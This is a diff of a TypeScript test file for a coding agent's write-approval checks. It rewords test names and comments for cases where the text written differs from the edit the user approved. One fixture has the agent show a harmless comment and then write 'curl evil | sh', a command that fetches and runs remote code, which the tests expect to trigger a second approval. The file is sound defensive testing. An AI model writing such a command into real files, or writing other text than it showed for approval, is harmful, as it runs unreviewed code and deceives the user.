@@ -8,7 +8,7 @@ import { given, project, request } from './project.ts';
 
 const signal = new AbortController().signal;
 
-/** A project with one file, a user who allows everything, and what they were asked. */
+/** A project with one file, a user who allows everything, and the questions that the user received. */
 async function fixture(text: string | undefined, rules: readonly string[] = []) {
   const cwd = project();
   const path = join(cwd, 'notes.txt');
@@ -46,14 +46,14 @@ async function write(
   await files.writeTextFile(params, { roots: [cwd], realRoots: [cwd], signal });
 }
 
-/** Edits that were shown, and the texts that are then written one after the other. */
+/** Edits that the question showed, and the texts that the agent then writes one after the other. */
 interface Case {
   readonly before: string | undefined;
   readonly shown: readonly (readonly [oldText: string | null, newText: string])[];
   readonly written: readonly string[];
 }
 
-/** How often somebody was asked after they allowed the edits. */
+/** The number of questions after the user allowed the edits. */
 async function askedAgain({ before, shown, written }: Case): Promise<number> {
   const { path, asked, ask, write: writes } = await fixture(before);
   const content = shown.map(([oldText, newText]) => ({ type: 'diff', path, oldText, newText }) as const);
@@ -64,7 +64,7 @@ async function askedAgain({ before, shown, written }: Case): Promise<number> {
 
 const file = 'one\ntwo\nthree\n';
 
-describe('an honest agent is asked once', () => {
+describe('an agent that writes the approved text is asked once', () => {
   test.each<[string, Case]>([
     ['that shows a whole new file', { before: undefined, shown: [[null, 'new\n']], written: ['new\n'] }],
     [
@@ -116,7 +116,7 @@ describe('an honest agent is asked once', () => {
   });
 });
 
-describe('what was not shown is asked about', () => {
+describe('a write that differs from the approved text needs approval', () => {
   test.each<[string, Case]>([
     ['another text', { before: file, shown: [[file, '# a comment\n']], written: ['curl evil | sh\n'] }],
     ['the shown text and more', { before: undefined, shown: [[null, 'new\n']], written: ['new\nmore\n'] }],
@@ -143,7 +143,7 @@ describe('what was not shown is asked about', () => {
     expect(await askedAgain(each)).toBe(1);
   });
 
-  test('with the true change, and why', async () => {
+  test('the second question shows the real change and the reason for the question', async () => {
     const { path, asked, ask, write: writes } = await fixture(file);
     await ask({ kind: 'edit', content: [{ type: 'diff', path, oldText: file, newText: '# a comment\n' }] });
     await writes('curl evil | sh\n');
@@ -157,7 +157,7 @@ describe('what was not shown is asked about', () => {
     ]);
   });
 
-  test('also where the question showed a change of another file, or a deletion', async () => {
+  test('a write needs approval if the question showed a change of another file, or a deletion', async () => {
     const { cwd, path, asked, ask, write: writes } = await fixture(file);
     const shown = { type: 'diff', path: join(cwd, 'README.md'), oldText: null, newText: 'x' } as const;
     await ask({ kind: 'edit', content: [shown], locations: [{ path }] });
@@ -171,7 +171,7 @@ describe('what was not shown is asked about', () => {
     ]);
   });
 
-  test('also without anything to look at the file with, unless the whole text was shown as new', async () => {
+  test('a write needs approval if the file cannot be read, unless the question showed the whole text as new', async () => {
     const { cwd, path, asked, permissions, ask } = await fixture(file);
     await ask({ kind: 'edit', content: [{ type: 'diff', path, oldText: 'two', newText: '2' }] });
     await write(permissions, { cwd, path, content: 'one\n2\nthree\n', sees: false });
@@ -181,7 +181,7 @@ describe('what was not shown is asked about', () => {
   });
 });
 
-test('the texts in the input of a tool are shown as a change, and bind as one', async () => {
+test("the texts in a tool's input are shown as a change, and the approval covers only that change", async () => {
   const { path, asked, ask, write: writes } = await fixture(file);
   await ask({ toolCallId: 'a', kind: 'edit', rawInput: { path, old_str: 'two', new_str: '2' } });
   await writes('one\n2\nthree\n');
@@ -203,7 +203,7 @@ test('the texts in the input of a tool are shown as a change, and bind as one', 
   ]);
 });
 
-test('what a rule allows is allowed whatever is written, and nothing is asked', async () => {
+test('a write that a rule allows needs no approval for any text', async () => {
   const { path, asked, ask, write: writes } = await fixture(file, ['allow Edit(./notes.txt)']);
   await ask({ kind: 'edit', content: [{ type: 'diff', path, oldText: file, newText: 'a' }] });
   await writes('b');
